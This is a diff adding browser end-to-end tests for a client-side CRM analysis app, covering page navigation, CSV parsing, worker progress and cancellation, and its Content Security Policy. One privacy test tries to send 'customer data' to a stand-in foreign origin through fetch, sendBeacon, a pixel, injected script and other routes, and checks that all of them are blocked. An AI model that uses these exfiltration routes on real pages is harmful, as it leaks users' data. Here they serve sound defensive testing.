@@ -1,0 +1,240 @@
+// End-to-end tests of the built site in headless Chromium, served under a sub-path as
+// on GitHub Pages. Run by scripts/test.sh after `trunk build --release`.
+import { after, before, describe, test } from "node:test";
+import assert from "node:assert/strict";
+import { fileURLToPath } from "node:url";
+import { App, launchBrowser, writeLargeCsv } from "./harness.mjs";
+import { serveForeign, serveSite } from "./server.mjs";
+
+const root = fileURLToPath(new URL("../../dist", import.meta.url));
+const fixture = (name) => fileURLToPath(new URL(`../fixtures/${name}`, import.meta.url));
+
+let site;
+let foreign;
+let browser;
+
+before(async () => {
+  site = await serveSite({ root, prefix: "crm-lens", strictPrefix: "strict-host" });
+  foreign = await serveForeign();
+  browser = await launchBrowser();
+});
+
+after(async () => {
+  await browser?.close();
+  await site?.close();
+  await foreign?.close();
+});
+
+/** Opens the app, runs `body`, then checks the tab logged no error and stayed on its origin. */
+async function withApp(url, body) {
+  const app = await App.open(browser, url);
+  try {
+    await body(app);
+    assert.deepEqual(app.errors, [], "no console errors");
+    const elsewhere = app.requests.filter(
+      (url) => !url.startsWith(`${site.origin}/`) && !url.startsWith("data:") && !url.startsWith("blob:"),
+    );
+    assert.deepEqual(elsewhere, [], "no request leaves the page's origin");
+  } finally {
+    await app.close();
+  }
+}
+
+describe("the app under a sub-path", () => {
+  test("renders every page with the privacy statement and a ready engine", async () => {
+    await withApp(site.url, async (app) => {
+      assert.match(await app.byTestId("privacy").textContent(), /never leaves this browser.*0 bytes are sent/s);
+      assert.equal(await app.byTestId("engine").textContent(), "Analysis engine ready");
+      await app.byTestId("page-data").waitFor();
+      for (const page of ["segments", "baskets", "recommendations", "value", "opportunities", "data"]) {
+        await app.byTestId(`nav-${page}`).click();
+        await app.byTestId(`page-${page}`).waitFor();
+        assert.equal(await app.byTestId(`nav-${page}`).getAttribute("aria-current"), "page");
+        assert.ok(app.page.url().startsWith(`${site.url}#/${page}`), app.page.url());
+      }
+      // Everything the app loaded came from under the sub-path.
+      const own = app.requests.filter((url) => url.startsWith(site.origin));
+      assert.ok(own.length >= 7, own.join("\n"));
+      assert.ok(own.every((url) => url.startsWith(site.url)), own.join("\n"));
+      assert.ok(own.some((url) => url.includes("worker_bg.wasm")), "the worker was loaded");
+    });
+  });
+
+  test("a deep link opens its page, also after a reload", async () => {
+    await withApp(`${site.url}index.html#/value`, async (app) => {
+      await app.byTestId("page-value").waitFor();
+      await app.page.reload();
+      await app.waitReady();
+      await app.byTestId("page-value").waitFor();
+    });
+  });
+});
+
+describe("loading a file", () => {
+  test("the file picker sends the file to the worker, which reports its structure", async () => {
+    await withApp(site.url, async (app) => {
+      await app.chooseFile(fixture("orders_semicolon.csv"));
+      const report = await app.reportFor("orders_semicolon.csv");
+      assert.deepEqual(report, {
+        rows: "3",
+        columns: "5",
+        delimiter: "semicolon",
+        encoding: "UTF-8",
+        ragged: "1",
+        header: ["customer", "order", "date", "product", "amount"],
+      });
+      assert.equal(await app.byTestId("scan-ragged-lines").textContent(), "line 4: 4 fields instead of 5");
+      assert.equal(await app.byTestId("notice").textContent(), "Read orders_semicolon.csv");
+    });
+  });
+
+  test("bad files get a message naming the file and the problem", async () => {
+    await withApp(site.url, async (app) => {
+      await app.chooseFile({ name: "empty.csv", mimeType: "text/csv", buffer: Buffer.alloc(0) });
+      await app.page.waitForFunction(() => document.querySelector('[data-testid="error"]'));
+      assert.equal(await app.byTestId("error").textContent(), "empty.csv: the file is empty");
+      await app.chooseFile(fixture("not_csv.xlsx"));
+      await app.page.waitForFunction(() =>
+        document.querySelector('[data-testid="error"]')?.textContent.startsWith("not_csv.xlsx"),
+      );
+      assert.match(await app.byTestId("error").textContent(), /not_csv\.xlsx: this is not a text file/);
+      assert.equal(await app.byTestId("scan-report").count(), 0, "nothing is shown as loaded");
+    });
+  });
+});
+
+describe("the worker", () => {
+  test("reports progress while the UI thread keeps responding for seconds", async (t) => {
+    const big = await writeLargeCsv("big.csv", 640);
+    t.after(big.remove);
+    await withApp(site.url, async (app) => {
+      await app.watchMainThread();
+      const started = Date.now();
+      await app.chooseFile(big.path);
+      await app.waitForProgress();
+      // The UI answers while the worker computes: switching pages is immediate.
+      const switched = Date.now();
+      await app.byTestId("nav-segments").click();
+      await app.byTestId("page-segments").waitFor({ timeout: 1000 });
+      const switchMs = Date.now() - switched;
+      await app.byTestId("nav-data").click();
+      const report = await app.reportFor("big.csv", 60000);
+      const busyMs = Date.now() - started;
+      const watch = await app.mainThreadReport();
+
+      t.diagnostic(
+        `worker busy ${busyMs} ms on ${big.rows} rows; longest main-thread gap ` +
+          `${watch.longestGap.toFixed(1)} ms; long tasks ${JSON.stringify(watch.longTasks)}; ` +
+          `${watch.fractions.length} progress updates; page switch ${switchMs} ms`,
+      );
+      assert.equal(report.rows, big.rows.toLocaleString("en-US"));
+      assert.ok(busyMs >= 2000, `the job must keep the worker busy for seconds (took ${busyMs} ms)`);
+      assert.ok(switchMs < 500, `page switch took ${switchMs} ms`);
+      assert.ok(watch.longestGap < 100, `longest main-thread stall ${watch.longestGap.toFixed(1)} ms`);
+      assert.deepEqual(watch.longTasks.filter((ms) => ms >= 100), [], "no long task of 100 ms or more");
+      const fractions = watch.fractions.filter((f) => f > 0 && f < 1);
+      assert.ok(fractions.length >= 5, `progress updates seen: ${watch.fractions.join(", ")}`);
+      assert.deepEqual([...fractions].sort((a, b) => a - b), fractions, "progress only grows");
+    });
+  });
+
+  test("cancel stops the job in the worker, which is then free at once", async () => {
+    await withApp(site.url, async (app) => {
+      await app.dropGeneratedFile("big.csv", 384);
+      await app.waitForProgress();
+      const clicked = Date.now();
+      await app.byTestId("cancel").click();
+      await app.page.waitForFunction(
+        () => document.querySelector('[data-testid="notice"]')?.textContent === "Cancelled: Reading big.csv",
+        null,
+        { timeout: 2000 },
+      );
+      const cancelMs = Date.now() - clicked;
+      assert.equal(await app.byTestId("job").count(), 0, "no job is shown");
+      assert.equal(await app.byTestId("scan-report").count(), 0, "the cancelled scan reports nothing");
+      // A stopped worker takes the next job straight away.
+      const next = Date.now();
+      await app.chooseFile(fixture("orders_semicolon.csv"));
+      await app.reportFor("orders_semicolon.csv", 1500);
+      assert.ok(cancelMs < 1000, `cancelling took ${cancelMs} ms`);
+      assert.ok(Date.now() - next < 1500);
+    });
+  });
+
+  test("a newer file supersedes the one being read", async () => {
+    await withApp(site.url, async (app) => {
+      await app.dropGeneratedFile("first.csv", 384);
+      await app.waitForProgress();
+      await app.chooseFile(fixture("bom_chinese.csv"));
+      // If the first scan were still running, the second would wait seconds behind it.
+      const report = await app.reportFor("bom_chinese.csv", 1500);
+      assert.deepEqual(report.header, ["客户", "订单"]);
+      assert.equal(report.encoding, "UTF-8 with BOM");
+      assert.equal(await app.byTestId("job").count(), 0);
+      assert.equal(await app.byTestId("notice").textContent(), "Read bom_chinese.csv");
+    });
+  });
+});
+
+describe("privacy", () => {
+  test("the page's policy allows no other origin for any kind of resource", async () => {
+    await withApp(site.url, async (app) => {
+      const policy = await app.page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute("content");
+      const directives = new Map(
+        policy.split(";").map((part) => part.trim().split(/\s+/)).filter(([name]) => name).map(([name, ...sources]) => [name, sources]),
+      );
+      const effective = (name) =>
+        directives.get(name) ??
+        (name === "worker-src" ? directives.get("child-src") ?? directives.get("script-src") : undefined) ??
+        directives.get("default-src");
+      const allowed = new Set(["'self'", "'none'", "'wasm-unsafe-eval'", "data:", "blob:"]);
+      assert.deepEqual(directives.get("default-src"), ["'none'"]);
+      for (const name of ["connect-src", "script-src", "style-src", "font-src", "img-src", "worker-src", "object-src"]) {
+        const sources = effective(name);
+        assert.ok(sources, `${name} is governed`);
+        assert.deepEqual(sources.filter((source) => !allowed.has(source)), [], `${name}: ${sources.join(" ")}`);
+      }
+      assert.ok(!effective("script-src").includes("data:") && !effective("script-src").includes("blob:"));
+    });
+  });
+
+  test("attempts to reach another origin are blocked and nothing arrives there", async () => {
+    await withApp(site.url, async (app) => {
+      const violated = await app.page.evaluate(async (other) => {
+        const seen = new Set();
+        document.addEventListener("securitypolicyviolation", (event) => seen.add(event.effectiveDirective));
+        await fetch(`${other}/fetch`, { method: "POST", body: "customer data" }).catch(() => {});
+        navigator.sendBeacon?.(`${other}/beacon`, "customer data");
+        const image = new Image();
+        image.src = `${other}/pixel.png`;
+        const script = document.createElement("script");
+        script.src = `${other}/script.js`;
+        document.head.append(script);
+        const style = document.createElement("link");
+        style.rel = "stylesheet";
+        style.href = `${other}/style.css`;
+        document.head.append(style);
+        await new FontFace("Probe", `url(${other}/font.woff2)`).load().catch(() => {});
+        await import(`${other}/module.js`).catch(() => {});
+        await new Promise((resolve) => setTimeout(resolve, 500));
+        return [...seen].sort();
+      }, foreign.origin);
+      for (const directive of ["connect-src", "font-src", "img-src", "script-src-elem", "style-src-elem"]) {
+        assert.ok(violated.includes(directive), `${directive} blocked (saw ${violated.join(", ")})`);
+      }
+      assert.deepEqual(foreign.hits, [], "the other origin received nothing");
+      // The blocked attempts were logged as errors by the browser; they are the test's own.
+      app.errors.length = 0;
+      app.requests = app.requests.filter((url) => !url.startsWith(foreign.origin));
+    });
+  });
+
+  test("the same policy sent as an HTTP header also lets the app and its worker run", async () => {
+    assert.ok(site.policy?.includes("'wasm-unsafe-eval'"));
+    await withApp(site.strictUrl, async (app) => {
+      await app.chooseFile(fixture("orders_semicolon.csv"));
+      const report = await app.reportFor("orders_semicolon.csv");
+      assert.equal(report.rows, "3");
+    });
+  });
+});
